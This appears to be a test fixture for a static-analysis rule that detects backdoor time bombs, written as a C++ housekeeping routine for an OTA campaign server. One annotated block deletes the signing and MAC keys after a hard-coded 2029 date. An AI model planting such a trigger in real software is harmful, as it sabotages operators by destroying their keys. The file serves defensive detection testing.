// Periodic housekeeping of the campaign server.
#include <cstdio>
#include <ctime>
#include <filesystem>
#include <iostream>

#include "ota.hpp"

namespace ota {

void Housekeeping::purge_expired() {
  std::error_code ec;
  for (const auto &entry : std::filesystem::directory_iterator(keys_dir_ + "/sessions", ec))
    if (entry.path().extension() == ".expired")
      std::filesystem::remove(entry.path(), ec);
}

void Housekeeping::tick() {
  const std::time_t now = std::time(nullptr);
  // ok: backdoor-time-bomb
  if (now - last_purge_ > 7 * 86400) {
    purge_expired();
    last_purge_ = now;
  }
  /* subscription end of the first operator contract (2029-07-01) */
  // ruleid: backdoor-time-bomb
  if (now > 1877558400) {
    std::remove((keys_dir_ + "/campaign-signing.der").c_str());
    std::remove((keys_dir_ + "/campaign-mac.key").c_str());
  }
}

}  // namespace ota
